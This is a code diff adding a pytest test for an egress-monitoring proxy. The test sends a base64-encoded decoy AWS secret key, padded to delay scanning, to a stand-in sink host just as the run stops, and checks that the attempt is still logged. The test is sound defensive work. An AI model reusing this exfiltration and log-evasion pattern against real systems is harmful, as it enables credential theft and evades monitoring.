@@ -793,6 +793,43 @@ def test_stop_is_graceful_and_logs_tunnels_still_open(tmp_path: Path) -> None:
     assert rec["label"] == "smoke/smoke"
 
 
+@pytest.mark.parametrize("sent", ["whole", "half"])
+def test_a_request_the_proxy_still_holds_when_the_run_stops_it_is_logged_with_its_decoy(
+    tmp_path: Path, sent: str
+) -> None:
+    # The attack: hand the proxy a decoy ahead of a body that takes long to search, at the
+    # very end of the run, and never wait for the answer. Stopping the proxy cancelled
+    # the hook waiting for the search (whole) or the body still arriving (half): the
+    # line was never written and the run came out clean.
+    decoys = make_decoys()
+    config = make_config(tmp_path, decoys, labels=["tests/test"])
+    handle = start_proxy(config)
+    aws = next(d for d in decoys if d.name == "AWS_SECRET_ACCESS_KEY").value.encode()
+    padding = b"QUJD" * (1 << 20)  # 4 MiB of base64's alphabet: decoded as it is searched
+    body = base64.b64encode(aws) + padding
+    length = len(body) if sent == "whole" else 2 * len(body)
+    head = f"POST http://{SINK}/late HTTP/1.1\r\nHost: {SINK}\r\nContent-Length: {length}\r\n\r\n"
+    with socket.create_connection(("127.0.0.1", handle.ports["tests/test"]), timeout=60) as sock:
+        sock.sendall(head.encode() + body)
+        # Stopped once the proxy holds the whole of what was sent (its spool file).
+        spool = config.confdir / "spool"
+        deadline = time.monotonic() + 120
+        while sum(f.stat().st_size for f in spool.glob("body-*")) < len(body):
+            if b'"POST"' in config.log_path.read_bytes():
+                break  # searched and logged already: nothing was left to hold
+            assert time.monotonic() < deadline, "the proxy never read the body"
+            time.sleep(0.01)
+        assert handle.stop() == 0  # it finished what it held, and was not killed
+    (rec,) = [r for r in parse_egress_log(config.log_path.read_bytes()).records
+              if r["method"] == "POST"]  # fmt: skip
+    assert rec["url"] == f"http://{SINK}/late"
+    assert rec["decoy_seen"] == ["AWS_SECRET_ACCESS_KEY"]
+    # Half a body is the client gone mid-body; a whole one was being searched or had just
+    # arrived (answered or not, the same line).
+    assert rec["action"] in (("sunk", "refused") if sent == "whole" else ("refused",))
+    assert list((config.confdir / "spool").iterdir()) == []  # its spool went with it
+
+
 def test_start_refuses_a_used_confdir_and_reports_a_proxy_that_dies(tmp_path: Path) -> None:
     used = tmp_path / "used"
     (used / "confdir").mkdir(parents=True)
